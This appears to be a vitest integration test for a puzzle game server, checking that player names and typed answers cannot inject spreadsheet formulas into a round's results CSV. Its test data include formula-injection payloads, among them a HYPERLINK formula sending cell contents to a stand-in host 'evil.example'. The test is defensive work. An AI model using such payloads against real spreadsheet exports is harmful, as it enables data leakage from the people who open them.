import { api } from '@plw/protocol/api';
import { pathOf } from '@plw/protocol/endpoint';
import type { LobbyPlayers } from '@plw/protocol/socket/host-events';
import type { RoundState } from '@plw/protocol/socket/round-events';
import { insertGame } from '@plw/server/domains/games/repository';
import { insertKrissKrossQuestions } from '@plw/server/question-types/krisskross/repository';
import { KRISSKROSS_ANSWER_MESSAGES } from '@plw/shared/question-types/krisskross/answers';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { demoCreator, guest, type TestClient } from '../../support/http.ts';
import { advanceUntil, connectRound, type RoundClient } from '../../support/round-client.ts';
import { startTestServer, type TestServer } from '../../support/test-server.ts';

// The attack: a display name `z;=1+1;` and a typed kriss-kross word `;=HYPERLINK(...)` land in a round's results
// CSV, and German Excel, which splits cells at ';', runs them as formulas. A typed word that is not letters of the
// puzzle's script is refused on the socket and over REST; whatever a player typed reaches no spreadsheet cell as a
// formula, at whichever separator it splits.

let server: TestServer;
let host: TestClient;
let channelId: string;

beforeAll(async () => {
  server = await startTestServer();
  ({ host, channelId } = await demoCreator(server.url));
});
afterAll(() => server?.close());

const FRUITS = [
  { question: 'A red fruit', answer: 'APPLE', direction: 'Across' as const },
  { question: 'A green fruit', answer: 'PEAR', direction: 'Down' as const },
];

async function fruitGame(mode: 'DAILY' | 'RAPID', status: 'VERIFIED' | 'RELEASED') {
  const now = new Date(server.clock.now());
  const { gameId } = await insertGame(
    server.app.db,
    channelId,
    { type: 'Kriss_kross_puzzle', mode, language: 'English', game_name: 'Fruit race', status },
    now,
  );
  await insertKrissKrossQuestions(server.app.db, gameId, FRUITS, now);
  return gameId;
}

async function seat(roundId: string, name: string): Promise<{ http: TestClient; socket: RoundClient }> {
  const http = await guest(server.url);
  const entered = await http.request('POST', pathOf(api.enterRound, { id: roundId }), { display_name: name });
  expect(entered.status).toBe(200);
  const socket = await connectRound(server.url, http.accessToken ?? '');
  const lobby = await socket.call<LobbyPlayers>('lobby:join', { roundId });
  if (!lobby.ok) throw new Error(lobby.error.message);
  return { http, socket };
}

/** A CSV's cells as a spreadsheet splitting at `separator` reads them: quotes honoured, or (`naive`) not at all. */
function cellsOf(csv: string, separator: string, naive: boolean): string[] {
  const cells: string[] = [];
  for (const line of csv.replace(/^\uFEFF/, '').split('\r\n')) {
    if (naive) {
      cells.push(...line.split(separator));
      continue;
    }
    let cell = '';
    let quoted = false;
    for (let i = 0; i < line.length; i += 1) {
      const char = line[i] ?? '';
      if (char === '"' && quoted && line[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (char === '"') quoted = !quoted;
      else if (char === separator && !quoted) {
        cells.push(cell);
        cell = '';
      } else cell += char;
    }
    cells.push(cell);
  }
  return cells;
}

describe('the results CSV of a round', () => {
  it("holds no formula a player typed, for a spreadsheet splitting at ',', ';', tab or '|'", async () => {
    const gameId = await fruitGame('DAILY', 'VERIFIED');
    const hosted = await host.request<{ round_id: string }>('POST', pathOf(api.hostGame, { id: gameId }));
    expect(hosted.status).toBe(200);
    const roundId = hosted.body.round_id;
    // Each name, and how the CSV keeps it: an apostrophe before a formula wherever a cell could start, quoted.
    const written = new Map([
      ['z;=1+1;', '"z;\'=1+1;"'],
      ['Ravi,@SUM(A1)', '"Ravi,\'@SUM(A1)"'],
      ['Tab | -2+3', '"Tab |\' -2+3"'],
      ['+91 Asha', '\'+91 Asha'],
    ]);
    const names = [...written.keys()];
    const players = [];
    for (const name of names) players.push(await seat(roundId, name));
    const started = await host.request<{ starts_at: number }>('POST', pathOf(api.startRound, { id: roundId }));
    expect(started.status).toBe(200);

    for (const player of players) {
      const joined = await player.socket.call<RoundState>('round:join', { gameId, roundId });
      if (!joined.ok) throw new Error(joined.error.message);
    }
    const first = players[0];
    if (!first) throw new Error('no player');
    await advanceUntil(server.clock, first.socket.waitFor('round:start', () => true, 12_000));
    await server.clock.advanceTo(started.body.starts_at + 1_000);
    const joined = await first.socket.call<RoundState>('round:join', { gameId, roundId });
    if (!joined.ok || joined.data.questions?.type !== 'Kriss_kross_puzzle') throw new Error('no puzzle');
    const [apple, pear] = joined.data.questions.questions;
    const answer = (socket: RoundClient, questionId: string, text: string) =>
      socket.call('round:answer', { gameId, roundId, questionId, answer: text });

    // Typed words that are not the puzzle's letters are refused, stored nowhere, and the word stays open.
    for (const typed of [';=HYPERLINK("http://evil.example/?"&A1;"open")', '=1+1', 'APP1E', 'ПEAR']) {
      expect(await answer(first.socket, apple?.question_id ?? '', typed)).toEqual({
        ok: false,
        error: { code: 'BAD_PAYLOAD', message: KRISSKROSS_ANSWER_MESSAGES.notLetters },
      });
    }
    expect(await answer(first.socket, apple?.question_id ?? '', 'apple')).toMatchObject({ ok: true });
    expect(await answer(first.socket, pear?.question_id ?? '', 'PEAL')).toMatchObject({ ok: true });
    expect((await host.request('POST', pathOf(api.endRound, { id: roundId }))).status).toBe(200);

    const download = await host.request<string>('GET', pathOf(api.roundResultsCsv, { id: roundId }));
    expect(download.status).toBe(200);
    const csv = download.body;
    for (const field of written.values()) expect(csv).toContain(`,${field},`);
    for (const separator of [',', ';', '\t', '|']) {
      for (const naive of [false, true]) {
        const formulas = cellsOf(csv, separator, naive).filter((cell) => /^\s*[=+\-@]/.test(cell.replace(/^"/, '')));
        expect(formulas, `split at ${JSON.stringify(separator)}${naive ? ', quotes ignored' : ''}`).toEqual([]);
      }
    }
    for (const player of players) player.socket.close();
  }, 40_000);

  it("refuses a daily grid's square that holds no letter of the puzzle's script, in words, as 400", async () => {
    const gameId = await fruitGame('DAILY', 'RELEASED');
    const player = await guest(server.url);
    const progress = pathOf(api.krissKrossSaveProgress, { id: gameId });
    const grid = await player.request<{ grid: { cells: { row: number; col: number }[] } }>(
      'GET',
      `${api.krissKrossAllQuestions.path}?game_id=${gameId}`,
    );
    expect(grid.status).toBe(200);
    const cell = grid.body.grid.cells[0] ?? { row: 0, col: 0 };
    for (const letter of [';', '=', '@', '1', 'Ж']) {
      const refused = await player.request('PUT', progress, { cells: [{ ...cell, letter }] });
      expect(refused.status, letter).toBe(400);
      expect(refused.body).toMatchObject({
        error: { message: `Cell ${cell.row},${cell.col}: ${KRISSKROSS_ANSWER_MESSAGES.notLetters}` },
      });
    }
    const submitted = await player.request('POST', pathOf(api.krissKrossSubmit, { id: gameId }), {
      cells: [{ ...cell, letter: '=' }],
    });
    expect(submitted.status).toBe(400);
    expect((await player.request('PUT', progress, { cells: [{ ...cell, letter: 'a' }] })).status).toBe(200);
  });
});
